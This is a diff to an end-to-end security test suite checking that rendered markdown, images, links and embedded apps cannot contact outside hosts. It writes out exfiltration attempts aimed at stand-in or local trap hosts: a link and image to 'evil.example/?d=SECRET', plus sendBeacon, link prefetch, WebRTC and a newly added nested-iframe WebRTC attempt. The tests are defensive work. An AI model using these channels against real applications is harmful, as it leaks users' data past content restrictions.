@@ -22,6 +22,8 @@ function hubRequests(): number {
 }
 
 it("attack 37: pictures and links in a text load nothing from elsewhere", async () => {
+  // Parsing what is then thrown away makes the browser complain about it.
+  desk.guard.expect(/Content Security Policy|policy: (style|script|base|img)/);
   const session = await desk.hub.rest.newSession("37");
   const page = await desk.tab({ session });
   const to = `${trap.url}/?d=SECRET`;
@@ -39,6 +41,10 @@ it("attack 37: pictures and links in a text load nothing from elsewhere", async 
   ].join("\n");
   await show(desk.hub, session, page, "text", { renderer: "markdown", data: text });
   await windowOf(page, "text").getByText("the end").waitFor();
+  await windowOf(page, "text").getByText("a link").click();
+  await page.getByText("https://evil.example/?d=SECRET").last().waitFor();
+  expect(page.context().pages()).toHaveLength(1);
+  await page.keyboard.press("Escape");
   await say(page, `/say ${text.replaceAll("\n", "\\n")}`);
   await waitForRow(page, "the end");
   await show(desk.hub, session, page, "layout", { renderer: "component", data: { components: [{ type: "image", src: to }, { type: "text", content: "an image" }] } } as Content);
@@ -47,9 +53,6 @@ it("attack 37: pictures and links in a text load nothing from elsewhere", async 
   await settle(desk.hub, session, page);
   expect(trap.caught).toEqual([]);
 
-  await windowOf(page, "text").getByText("a link").click();
-  await page.getByText("https://evil.example/?d=SECRET").last().waitFor();
-  expect(page.context().pages()).toHaveLength(1);
   expect(await page.locator("[data-row] img[src^=http], section img[src^=http]").count()).toBe(0);
 });
 
@@ -119,6 +122,7 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
       await attempt("beacon", () => navigator.sendBeacon(evil + "/b", "x"));
       await attempt("link", () => { for (const rel of ["prefetch", "preconnect", "stylesheet"]) { const l = document.createElement("link"); l.rel = rel; l.href = evil; document.head.append(l); } });
       await attempt("peer", async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.port}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); await new Promise((ok) => setTimeout(ok, 500)); });
+      await attempt("nestedPeer", async () => { for (const src of ["about:blank", "srcdoc", "data:text/html,x", "blob"]) { const f = document.createElement("iframe"); if (src === "srcdoc") f.srcdoc = "x"; else f.src = src === "blob" ? URL.createObjectURL(new Blob(["x"], { type: "text/html" })) : src; document.body.append(f); await new Promise((ok) => setTimeout(ok, 50)); try { const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.port}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); } catch {} } await new Promise((ok) => setTimeout(ok, 300)); });
       await attempt("top", () => { top.location = evil + "/top"; });
       document.documentElement.dataset.out = JSON.stringify(out);
       document.documentElement.dataset.done = "yes";
